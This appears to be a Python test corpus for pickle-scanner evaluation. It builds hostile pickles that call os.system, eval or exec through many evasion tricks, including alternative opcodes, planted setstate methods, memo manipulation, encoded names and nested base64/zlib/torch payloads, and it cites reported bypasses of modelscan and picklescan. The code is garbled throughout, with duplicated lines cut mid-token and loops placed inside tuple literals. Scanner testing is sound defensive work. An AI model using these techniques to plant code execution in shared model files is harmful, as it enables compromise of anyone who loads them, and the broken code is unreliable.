"""One pickle for each way in which opcodes can call, name or hide: the machine, not the names, is in question."""

from __future__ import annotations

import base64
import pickle
import struct
import zlib
from collections.abc import Iterator

from tests.corpus.opcodes import (
    EMPTY,
    NONE,
    Make,
    Payload,
    Sample,
    array,
    blob,
    build,
    call,
    mapping,
    name,
    namespace,
    new,
    number,
    on_class,
    sample,
    stacked,
    stream,
    system,
    text,
    tup,
)

_SYSTEM = name("os", "system")


def tricks() -> Iterator[Sample]:
    yield from _protocols()
    yield from _calling_opcodes()
    yield from _hidden_calls()
    yield from _memo()
    yield from _names()
    yield from _integers()
    yield from _framing()
    yield from _order()
    yield from _nested()
    yield from _modelscan()


_PROTOCOLS: tuple[Sample, ...] = (
#@@     for protocol in range(6):
#@@         def make(p: Payload, protocol: int = protocol) -> bytes:
#@@             return stream(system(p), protocol=protocol or None)
#@@ 
#@@         yield sample(f"reduce-protocol-{protocol}", make)
    sample("reduce-text-opcodes", lambda p: f"cos\nsystem\n(S'{p.shell}'\ntR.".enc    sample("reduce-text-opcodes", lambda p: f"cos\nsystem\n(S'{p.shell}'\ntR.".encode()),
    sample("no-proto-but-stack-global", lambda p: stream(_stacked_system(p), protocol=    sample("no-proto-but-stack-global", lambda p: stream(_stacked_system(p), protocol=None)),
    sample("late-proto", lambda p: stream(NONE, pickle.POP, pickle.PROTO + b"\4", system(p), protocol=    sample("late-proto", lambda p: stream(NONE, pickle.POP, pickle.PROTO + b"\4", system(p), protocol=None)),
    sample(
        "proto-lowered-for-python-2-names",
        lambda p: stream(pickle.PROTO + b"\2", call(name("__builtin__", "eval"), text(p.code))),
    ),
    sample(
        "proto-raised-for-dotted-names",
        lambda p: stream(pickle.PROTO + b"\4", call(name("posixpath", "os.system"), text(p.shell)), protocol=0),
    ),
)


def _stacked_system(p: Payload) -> bytes:
    return call(stacked(text("os"), text("system")), text(p.shell))


_CALLING_OPCODES: tuple[Sample, ...] = (
    sample("inst", lambda p: stream(pickle.MARK, text(p.shell), pickle.INST, b"os\nsyste    sample("inst", lambda p: stream(pickle.MARK, text(p.shell), pickle.INST, b"os\nsystem\n")),
    sample("obj", lambda p: stream(pickle.MARK, _SYSTEM, text(p.shell), pickle    sample("obj", lambda p: stream(pickle.MARK, _SYSTEM, text(p.shell), pickle.OBJ)),
    # map.__new__ and tuple.__new__ are enough: no opcode here calls a function.
    sample(
        "newobj",
        lambda p: stream(new(name("builtins", "tuple"), new(name("builtins", "map"), _SYSTEM, array(text(p.shell))))),
    ),
    sample(
        "newobj-ex",
        lambda p: stream(
            name("builtins", "tuple"),
            tup(name("builtins", "map") + tup(_SYSTEM, array(text(p.shell))) + pickle.EMPTY_DICT + pickle.NEWOBJ_EX),
            pickle.EMPTY_DICT,
            pickle.NEWOBJ_EX,
        ),
    ),
#@@     for code, size in ((pickle.EXT1, 1), (pickle.EXT2, 2), (pickle.EXT4, 4)):
#@@         def make(p: Payload, code: bytes = code, size: int = size) -> bytes:
#@@             register = call(name("copyreg", "add_extension"), text("os"), text("system"), number(7))
#@@             return stream(register, pickle.POP, call(code + (7).to_bytes(size, "little"), text(p.shell)))
#@@ 
#@@         yield sample(f"extension-{size}", make)
    sample("persistent-id", lambda p: stream(tup(_SYSTEM, text(p.shell)), pickle.BINPERSID), runs=    sample("persistent-id", lambda p: stream(tup(_SYSTEM, text(p.shell)), pickle.BINPERSID), runs=False),
    sample("persistent-id-text", lambda p: b"P" + p.shell.encode() + b"\n.", runs=    sample("persistent-id-text", lambda p: b"P" + p.shell.encode() + b"\n.", runs=False),
)


_HIDDEN_CALLS: tuple[Sample, ...] = (
#@@     for method, opcodes in (
#@@         ("append", pickle.APPEND),
#@@         ("append", pickle.APPENDS),
#@@         ("add", pickle.ADDITEMS),
#@@     ):
#@@         def make(p: Payload, method: str = method, opcodes: bytes = opcodes) -> bytes:
#@@             mark = b"" if opcodes == pickle.APPEND else pickle.MARK
#@@             return stream(namespace(**{method: _SYSTEM}), mark, text(p.shell), opcodes)
#@@ 
#@@         yield sample(f"planted-{method}-{opcodes.hex()}", make)
    sample(
        "planted-setstate", lambda p: stream(build(namespace(__setstate__=_SYSTEM), text(p.shell)))
    ),
    sample(
        "planted-setstate-on-partial",
        lambda p: stream(
            build(build(call(name("functools", "partial"), name("builtins", "print")), _partial_state(_SYSTEM)), text(p.shell))
        ),
        runs=False,  # partial has a __setstate__ of its own; the planted one is not reached
    ),
    sample(
        "constructor-set-on-class",
        lambda p: stream(
            on_class(name("argparse", "Namespace"), __init__=_SYSTEM),
            pickle.POP,
            call(name("argparse", "Namespace"), text(p.shell)),
        ),
    ),
    sample(
        "attribute-set-on-function-then-named",
        lambda p: stream(
            on_class(name("textwrap", "dedent"), found=_SYSTEM),
            pickle.POP,
            call(name("textwrap", "dedent.found"), text(p.shell)),
        ),
    ),
    sample(
        "builtins-replaced-by-setitem",
        lambda p: stream(
            name("builtins", "__dict__"),
            text("len"),
            _SYSTEM,
            pickle.SETITEM,
            pickle.POP,
            call(name("builtins", "len"), text(p.shell)),
        ),
    ),
    sample(
        "modules-replaced-by-setitem",
        lambda p: stream(
            name("sys", "modules"),
            pickle.MARK,
            text("harmless"),
            namespace(tool=_SYSTEM),
            pickle.SETITEMS,
            pickle.POP,
            call(name("harmless", "tool"), text(p.shell)),
        ),
    ),
    sample(
        "environment-changed-by-setitem",
        lambda p: stream(name("os", "environ"), text("PYTHONSTARTUP"), text(p.mark), pickle.SETITEM),
        runs=False,
    ),
)
"""Methods that the unpickler calls by itself, planted first."""


def _partial_state(function: bytes) -> bytes:
    return tup(name("builtins", "print"), EMPTY, pickle.EMPTY_DICT, mapping(__setstate__=function))


_MEMO: tuple[Sample, ...] = (
    sample(
        "sparse-memo",
        lambda p: stream(
            text("system"), pickle.LONG_BINPUT + struct.pack("<I", 50_000), pickle.POP,
            text("os"), pickle.LONG_BINGET + struct.pack("<I", 50_000), pickle.STACK_GLOBAL,
            tup(text(p.shell)), pickle.REDUCE,
        ),
    ),  # fmt: skip
    # MEMOIZE writes at the number of distinct entries, which here is 1 and not 2.
    sample(
        "memoize-counts-entries",
        lambda p: stream(
            text("getcwd"), pickle.BINPUT + b"\1", pickle.POP, text("system"), pickle.MEMOIZE, pickle.POP,
            text("os"), pickle.BINGET + b"\1", pickle.STACK_GLOBAL, tup(text(p.shell)), pickle.REDUCE,
        ),
    ),  # fmt: skip
    sample(
        "memo-overwritten",
        lambda p: stream(
            text("getcwd"), pickle.BINPUT + b"\0", pickle.POP, text("system"), pickle.BINPUT + b"\0", pickle.POP,
            text("os"), pickle.BINGET + b"\0", pickle.STACK_GLOBAL, tup(text(p.shell)), pickle.REDUCE,
        ),
    ),  # fmt: skip
    sample(
        "memo-of-something-below-the-operands",
        lambda p: stream(
            text("os"), text("system"), pickle.PUT + b"0\n", text("x"), pickle.POP, pickle.STACK_GLOBAL,
            pickle.PUT + b"1\n", pickle.POP, call(pickle.GET + b"1\n", text(p.shell)),
        ),
        "https://github.com/mmaitre314/picklescan/issues/22",
    ),  # fmt: skip
    sample(
        "memo-index-with-odd-digits",
        lambda p: stream(_SYSTEM, b"p +1_0 \n", pickle.POP, call(b"g10\n", text(p.shell)), protocol=None),
        loader="pure",
    ),
    sample(
        "duplicated-function",
        lambda p: stream(_SYSTEM, pickle.DUP, pickle.POP, tup(text(p.shell)), pickle.REDUCE),
    ),
)


_NAMES: tuple[Sample, ...] = (
    sample("operands-as-unicode-escapes", lambda p: stream(b"V\\u006fs\n", b"V\\u0073ystem\n", *_calle    sample("operands-as-unicode-escapes", lambda p: stream(b"V\\u006fs\n", b"V\\u0073ystem\n", *_called(p))),
    sample("operands-as-python-2-strings", lambda p: stream(b"U\2os", b"T\6\0\0\0system", *_calle    sample("operands-as-python-2-strings", lambda p: stream(b"U\2os", b"T\6\0\0\0system", *_called(p))),
    sample("operands-with-string-escapes", lambda p: stream(b"S'\\x6f\\x73'\n", b'S"sys\\164em"\n', *_calle    sample("operands-with-string-escapes", lambda p: stream(b"S'\\x6f\\x73'\n", b'S"sys\\164em"\n', *_called(p))),
#@@     computed = call(name("builtins", "str"), blob(b"system"), text("ascii"))
    sample("computed-operand", lambda p: stream(text("os"), computed, *_calle    sample("computed-operand", lambda p: stream(text("os"), computed, *_called(p))),
#@@     rot13 = call(name("_codecs", "decode"), text("flfgrz"), text("rot13"))
    sample("decoded-operand", lambda p: stream(text("os"), rot13, *_calle    sample("decoded-operand", lambda p: stream(text("os"), rot13, *_called(p))),
#@@     joined = call(call(name("builtins", "getattr"), text(""), text("join")), array(text("sys"), text("tem")))
    sample(
        "joined-operand",
        lambda p: stream(text("os"), joined, *_called(p)),
        "https://github.com/protectai/modelscan/issues/331",
    ),
    sample(
        "name-outside-ascii",
        lambda p: stream(
            on_class(name("argparse", "Namespace"), **{"größe": _SYSTEM}),
            pickle.POP,
            call(name("argparse", "Namespace.größe"), text(p.shell)),
        ),
    ),
#@@     for title, module, qualname in (
#@@         ("python-2-eval", "__builtin__", "eval"),
#@@         ("python-2-execfile", "__builtin__", "execfile"),
#@@         ("python-2-exec", "__builtin__", "exec"),
#@@     ):
#@@         def evaluate(p: Payload, module: str = module, qualname: str = qualname) -> bytes:
#@@             return stream(call(name(module, qualname), text(p.code)), protocol=2)
#@@ 
#@@         yield sample(title, evaluate, runs=qualname != "execfile")
    sample(
        "python-2-commands", lambda p: stream(call(name("commands", "getoutput"), text(p.shell)), protocol=2)
    ),
    sample(
        "python-2-urlopen",
        lambda p: stream(call(name("urllib", "urlopen"), text("http://127.0.0.1:9/")), protocol=2),
        runs=False,
    ),
#@@     for module, qualname in (
#@@         ("numpy.testing._private.utils", "os.system"),
#@@         ("joblib.memory", "os.system"),
#@@         ("numpy.lib._datasource", "os.system"),
#@@     ):
#@@         def dotted(p: Payload, module: str = module, qualname: str = qualname) -> bytes:
#@@             return stream(call(name(module, qualname), text(p.shell)))
#@@ 
#@@         yield sample(f"reached-through-{module.replace('.', '-').replace('_', '')}", dotted)
    sample(
        "reached-through-torch", lambda p: stream(call(name("torch", "os.system"), text(p.shell))), runs=False
    ),
    sample(
        "reached-through-globals",
        lambda p: stream(
            call(
                call(
                    name("builtins", "dict.get"),
                    call(name("textwrap", "dedent.__globals__.__getitem__"), text("__builtins__")),
                    text("exec"),
                ),
                text(p.code),
            ),
        ),
    ),
    sample("reached-through-self", lambda p: stream(call(name("builtins", "len.__self__.eval"), text(p.co    sample("reached-through-self", lambda p: stream(call(name("builtins", "len.__self__.eval"), text(p.code)))),
    sample(
        "module-loaded-by-a-loader",
        lambda p: stream(
            call(
                call(
                    name("builtins", "getattr"),
                    call(name("builtins", "__spec__.loader.load_module"), text("posix")),
                    text("system"),
                ),
                text(p.shell),
            )
        ),
        runs=False,  # importlib may drop load_module
    ),
    sample(
        "module-as-an-object",
        lambda p: stream(call(call(name("builtins", "getattr"), name("posixpath", "os"), text("system")), text(p.shell))),
    ),
)


def _called(p: Payload) -> tuple[bytes, ...]:
    return pickle.STACK_GLOBAL, tup(text(p.shell)), pickle.REDUCE


_INTEGERS: tuple[Sample, ...] = (
#@@     for title, literal in (
#@@         ("hex-int", b"I0x10\n"),
#@@         ("binary-int", b"I0b11\n"),
#@@         ("octal-long", b"L0o17L\n"),
#@@         ("hex-long", b"L0x1FL\n"),
#@@         ("int-with-underscore", b"I1_0\n"),
#@@         ("float-with-underscore", b"F1_0.5\n"),
#@@         ("float-infinity", b"Finf\n"),
#@@         ("int-with-blanks", b"I 7 \n"),
#@@         ("bool-of-two-digits", b"I01\n"),
#@@         ("long-of-no-bytes", pickle.LONG1 + b"\0"),
#@@     ):
#@@         def make(p: Payload, literal: bytes = literal) -> bytes:
#@@             return stream(literal, pickle.POP, system(p), protocol=2)
#@@ 
#@@         yield sample(title, make, loader="pure" if b"_" in literal else "pickle")
)
"""Literals that one parser takes and another rejects."""


_FRAMING: tuple[Sample, ...] = (
#@@     def framed(length: int, p: Payload, before: bytes = b"") -> bytes:
#@@         return stream(before, pickle.FRAME, struct.pack("<Q", length), system(p))

    sample("frame-too-short", lambda p: framed(3    sample("frame-too-short", lambda p: framed(3, p)),
    sample("frame-empty", lambda p: framed(    sample("frame-empty", lambda p: framed(0, p)),
    sample("frame-too-long", lambda p: framed(1_000_000, p), loader="    sample("frame-too-long", lambda p: framed(1_000_000, p), loader="pure"),
    sample("frame-in-frame", lambda p: framed(10, p, pickle.FRAME + struct.pack("<Q",    sample("frame-in-frame", lambda p: framed(10, p, pickle.FRAME + struct.pack("<Q", 30))),
    sample("frame-without-proto", lambda p: framed(200, p)[2:], loader="    sample("frame-without-proto", lambda p: framed(200, p)[2:], loader="pure"),
)


_ORDER: tuple[Sample, ...] = (
    sample("popped-result", lambda p: stream(system(p), pickle.POP,     sample("popped-result", lambda p: stream(system(p), pickle.POP, NONE)),
    sample("result-popped-with-its-mark", lambda p: stream(pickle.MARK, system(p), pickle.POP_MARK,     sample("result-popped-with-its-mark", lambda p: stream(pickle.MARK, system(p), pickle.POP_MARK, NONE)),
    sample("result-below-the-top", lambda p: stream(system(p),     sample("result-below-the-top", lambda p: stream(system(p), NONE)),
    sample("result-in-the-memo-only", lambda p: stream(system(p), pickle.MEMOIZE, pickle.POP, mapping(x=N    sample("result-in-the-memo-only", lambda p: stream(system(p), pickle.MEMOIZE, pickle.POP, mapping(x=NONE))),
    sample("result-as-dictionary-key", lambda p: stream(pickle.EMPTY_DICT, system(p), NONE, pickle.SET    sample("result-as-dictionary-key", lambda p: stream(pickle.EMPTY_DICT, system(p), NONE, pickle.SETITEM)),
    sample("no-stop", lambda p: stream(system(p))    sample("no-stop", lambda p: stream(system(p))[:-1]),
    sample("cut-in-the-next-opcode", lambda p: stream(system(p))[:-1] + b"X    sample("cut-in-the-next-opcode", lambda p: stream(system(p))[:-1] + b"X\xff"),
    sample("unknown-opcode-after-the-call", lambda p: stream(system(p), b"\    sample("unknown-opcode-after-the-call", lambda p: stream(system(p), b"\xff")),
    sample("stack-underflow-after-the-call", lambda p: stream(system(p), b"00    sample("stack-underflow-after-the-call", lambda p: stream(system(p), b"00000")),
    sample("protocol-from-the-future-after-the-call", lambda p: stream(system(p), pickle.PROTO + b"\    sample("protocol-from-the-future-after-the-call", lambda p: stream(system(p), pickle.PROTO + b"\x09")),
    sample("second-stream", lambda p: stream(NONE) + stream(syste    sample("second-stream", lambda p: stream(NONE) + stream(system(p))),
    sample("tenth-stream", lambda p: stream(mapping(a=NONE)) * 9 + stream(syste    sample("tenth-stream", lambda p: stream(mapping(a=NONE)) * 9 + stream(system(p))),
    sample("after-harmless-data", lambda p: stream(array(*[number(i) for i in range(5000)]), pickle.POP, syste    sample("after-harmless-data", lambda p: stream(array(*[number(i) for i in range(5000)]), pickle.POP, system(p))),
    sample("after-long-text", lambda p: stream(text("x" * 300_000), pickle.POP, syste    sample("after-long-text", lambda p: stream(text("x" * 300_000), pickle.POP, system(p))),
    # The pure-Python reader takes the last line as complete, and cuts its last chara    sample("last-line-unterminated", lambda p: f"(S'{p.shell}'\nios\nsystem!".encode(), loader="pure"),
)
"""Calls whose effect comes before whatever is wrong, or is thrown away."""


_NESTED: tuple[Sample, ...] = (
#@@     loads = name("pickle", "loads")
    sample("nested-bytes", lambda p: stream(call(loads, blob(stream(system(p    sample("nested-bytes", lambda p: stream(call(loads, blob(stream(system(p)))))),
    sample("nested-c-module", lambda p: stream(call(name("_pickle", "loads"), blob(stream(system(p    sample("nested-c-module", lambda p: stream(call(name("_pickle", "loads"), blob(stream(system(p)))))),
#@@ 
#@@     def encoded(p: Payload) -> bytes:
#@@         inner = call(name("base64", "b64decode"), text(base64.b64encode(stream(system(p))).decode()))
#@@         return stream(call(loads, inner))
#@@ 
#@@     def packed(p: Payload) -> bytes:
#@@         return stream(call(loads, call(name("zlib", "decompress"), blob(zlib.compress(stream(system(p)))))))
#@@ 
#@@     def latin(p: Payload) -> bytes:
#@@         inner = call(name("_codecs", "encode"), text(stream(system(p)).decode("latin-1")), text("latin1"))
#@@         return stream(call(loads, inner), protocol=2)
#@@ 
#@@     def twice(p: Payload) -> bytes:
#@@         inner = stream(call(loads, blob(stream(system(p)))))
#@@         return stream(call(loads, blob(inner)))

    sample("nested-base64", enc    sample("nested-base64", encoded),
    sample("nested-zlib", p    sample("nested-zlib", packed),
    sample("nested-latin-1-text",     sample("nested-latin-1-text", latin),
    sample("nested-twice",     sample("nested-twice", twice),
    sample("nested-unpickler", lambda p: stream(call(
        name("pickle", "Unpickler.load"),
        call(name("pickle", "Unpickler"), call(name("io", "BytesIO"), blob(stream(system(p))))),
    ))),  # fmt: skip
    sample(
        "nested-torch-storage",
        lambda p: stream(call(name("torch.storage", "_load_from_bytes"), blob(_legacy(p)))),
        runs=False,
    ),
    sample(
        "nested-torch-storage-as-latin-1-text",
        lambda p: stream(
            call(
                name("torch.storage", "_load_from_bytes"),
                call(name("_codecs", "encode"), text(_legacy(p).decode("latin-1")), text("latin1")),
            ),
            protocol=2,
        ),
        runs=False,
    ),
)


def _legacy(p: Payload) -> bytes:
    """The head of torch's old format, and a hostile object."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    return magic + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2) + stream(system(p), protocol=2)


_MODELSCAN: tuple[Sample, ...] = (
#@@ 
#@@     def operands_from_attributes(p: Payload) -> bytes:
#@@         prod = on_class(on_class(name("numpy", "prod"), a=text("os")), b=text("system"))
#@@         return stream(
#@@             prod, pickle.POP, name("numpy", "prod.a"), name("numpy", "prod.b"), *_called(p), protocol=5
#@@         )
#@@ 
#@@     def builtins_by_get(p: Payload) -> bytes:
#@@         found = call(name("builtins", "dict.get"), name("numpy", "__builtins__"), text("exec"))
#@@         return stream(call(found, text(p.code)), protocol=5)
#@@ 
#@@     def modules_as_attributes(p: Payload) -> bytes:
#@@         changed = build(name("numpy", "prod"), tup(NONE, name("numpy.testing._private.utils", "sys.modules")))
#@@         return stream(changed, pickle.POP, call(name("numpy", "prod.os.system"), text(p.shell)), protocol=5)
#@@ 
#@@     base = "https://github.com/protectai/modelscan/issues/"
#@@     makes: tuple[tuple[str, Make, str], ...] = (
#@@         ("operands-from-attributes", operands_from_attributes, "85"),
#@@         ("builtins-by-get", builtins_by_get, "89"),
#@@         ("modules-as-attributes", modules_as_attributes, "89"),
#@@     )
#@@     for title, make, issue in makes:
#@@         yield sample(title, make, base + issue)
    sample(
        "subclasses-walk",
        lambda p: stream(call(name("builtins", "print.__class__.__base__.__subclasses__"))),
        base + "338",
        runs=False,
    ),
    sample(
        "module-methods-by-name",
        lambda p: stream(
            call(name("builtins", "__dict__.__setitem__"), text("tool"), _SYSTEM),
            pickle.POP,
            call(name("builtins", "tool"), text(p.shell)),
        ),
        base + "338",
    ),
    sample(
        "import-module-then-getattr",
        lambda p: stream(
            call(call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")), text(p.shell))
        ),
        "https://github.com/mmaitre314/picklescan/issues/66",
    ),
)
"""Reported against scanners that track only the arguments of opcodes."""
